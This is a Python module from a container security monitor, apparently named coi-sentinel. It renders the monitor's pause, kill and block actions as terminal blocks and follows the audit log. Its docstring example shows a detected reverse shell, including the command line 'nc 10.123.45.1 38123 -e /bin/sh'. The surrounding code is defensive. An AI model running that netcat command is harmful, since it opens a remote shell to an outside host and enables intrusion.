"""What the terminal of ``run`` shows when the monitor acts: one block per action.

::

    == coi-sentinel: coi-1a2b3c4d-1 PAUSED ===========================================
      rule     reverse_shell_socket_dup (critical)
      why      Network socket duplicated onto stdio, a reverse shell (fd=1 oldfd=0
               dest=10.123.45.1:38123 proc=nc ...)
      process  pid 4242 nc: nc 10.123.45.1 38123 -e /bin/sh
      action   pause: the container is frozen, 4.1 ms after the event
      next     coi-sentinel resume-session coi-1a2b3c4d-1 (or kill it)
    ==================================================================================

The block is made from an ``action`` record (:class:`~coi_sentinel.records.ActionRecord`) as
written to the audit log, so a headless ``run``
(which owns the monitor) prints it as the action happens, and an attached terminal (whose
monitor lives in the keeper) prints it by following the session's audit log
(:class:`AuditFollower`).
"""

from __future__ import annotations

import os
import textwrap
from pathlib import Path
from typing import Any

from .. import records
from ..action import Action
from ..errors import RecordError
from ..records import ActionRecord

WIDTH = 78

_HEADLINE = {"pause": "PAUSED", "kill": "KILLED", "kill-process": "PROCESS KILLED",
             "block": "DESTINATION BLOCKED", "resume": "RESUMED"}


def _ms(ns: Any) -> str:
    return f"{ns / 1e6:.1f} ms" if isinstance(ns, (int, float)) else "?"


def _what(rec: ActionRecord) -> str:
    """The action line: what was done, and how long after the event."""
    act = rec.action.value
    if not rec.ok:
        return f"{act} FAILED: {rec.error or '?'}"
    after = f", {_ms(rec.latency_ns)} after the event" if rec.latency_ns is not None else ""
    if rec.by == "kernel":
        return f"{act}: SIGKILL from the probe, inside the syscall (bpf_send_signal)"
    if rec.action is Action.PAUSE:
        return f"pause: the container is frozen{after}"
    if rec.action is Action.KILL:
        return f"kill: every process of the container is dead{after}"
    if rec.action is Action.KILL_PROCESS:
        pids = rec.killed_pids or ()
        more = f" and {len(pids) - 6} more" if len(pids) > 6 else ""
        return f"kill-process: pid {', '.join(map(str, pids[:6]))}{more} killed{after}"
    if rec.action is Action.BLOCK:
        return f"block: {rec.blocked or '?'} is dropped from now on{after}"
    if rec.action is Action.RESUME:
        return "resume: the container runs again, still monitored"
    return f"{act}{after}"


def block(rec: "ActionRecord | dict[str, Any]", *, width: int = WIDTH) -> str:
    """One readable block for an action record (lines without a trailing newline); an
    action that was not needed (the session was already paused) gets one line."""
    if isinstance(rec, dict):
        rec = ActionRecord.from_dict(rec)
    name = rec.container or str(rec.extra.get("session") or "?")
    act = rec.action.value
    sev = rec.severity.label if rec.severity is not None else "?"
    if rec.skipped:
        line = (f"== coi-sentinel: {name} also: {rec.rule or '?'} ({sev}), "
                f"pid {'?' if rec.pid is None else rec.pid}; {act} not needed: {rec.skipped}")
        return line if len(line) <= width else line[: width - 3] + "..."
    head = _HEADLINE.get(act, act.upper())
    if not rec.ok:
        head += " FAILED"
    title = f"== coi-sentinel: {name} {head} "
    lines = [title + "=" * max(3, width - len(title))]

    def field_(label: str, text: str) -> None:
        wrapped = textwrap.wrap(text, width - 11) or [""]
        lines.append(f"  {label:<8} {wrapped[0]}")
        lines.extend(f"  {'':<8} {more}" for more in wrapped[1:3])
        if len(wrapped) > 3:
            lines[-1] = lines[-1][: width - 3] + "..."

    if rec.rule:
        field_("rule", f"{rec.rule} ({sev})")
    if rec.output:
        field_("why", rec.output)
    elif rec.reason:
        field_("why", rec.reason)
    proc = rec.process or {}
    if rec.pid is not None:
        field_("process", f"pid {rec.pid} {proc.get('name', '')}: {proc.get('cmdline', '')}".rstrip(": "))
    by = rec.by
    field_("action", _what(rec) + (f" (by the {by})" if by in ("guardian", "monitor") else
                                   " (from outside the monitor)" if by == "outside" else ""))
    if rec.action is Action.PAUSE and rec.done:
        field_("next", f"coi-sentinel resume-session {name}")
        field_("", f"or: coi-sentinel kill {name}")
    lines.append("=" * width)
    return "\n".join(lines)


class AuditFollower:
    """New ``action`` records of an audit log, from where it ends now.

    The log's active file keeps its name when it rotates (the old one is renamed aside), so a
    file that became shorter or another inode is read again from its start."""

    def __init__(self, path: str | os.PathLike[str]) -> None:
        self.path = Path(path)
        #: a pause was seen: an attached terminal should let go (the session's tmux is frozen)
        self.detach = False
        self._ino: int | None = None
        self._pos = 0
        self._partial = b""
        try:
            st = self.path.stat()
            self._ino, self._pos = st.st_ino, st.st_size
        except OSError:
            pass

    def poll(self) -> list[ActionRecord]:
        try:
            st = self.path.stat()
        except OSError:
            return []
        if st.st_ino != self._ino or st.st_size < self._pos:
            self._ino, self._pos, self._partial = st.st_ino, 0, b""
        if st.st_size == self._pos:
            return []
        try:
            with open(self.path, "rb") as f:
                f.seek(self._pos)
                data = f.read(st.st_size - self._pos)
        except OSError:
            return []
        self._pos += len(data)
        data = self._partial + data
        *complete, self._partial = data.split(b"\n")
        out = []
        for line in complete:
            if b'"record":"action"' not in line:
                continue
            try:
                rec = records.loads(line)       # the one codec
            except RecordError:
                continue
            if isinstance(rec, ActionRecord):
                out.append(rec)
        return out

    def text(self) -> bytes:
        """The blocks of the new records, for a terminal in raw mode (CR LF line ends)."""
        recs = self.poll()
        if not recs:
            return b""
        text = "\n".join(block(r) for r in recs)
        if any(r.action is Action.PAUSE and r.done for r in recs):
            self.detach = True
            text += "\n(detached: the session is paused; attach again after resume-session)"
        return ("\r\n" + text.replace("\n", "\r\n") + "\r\n").encode()
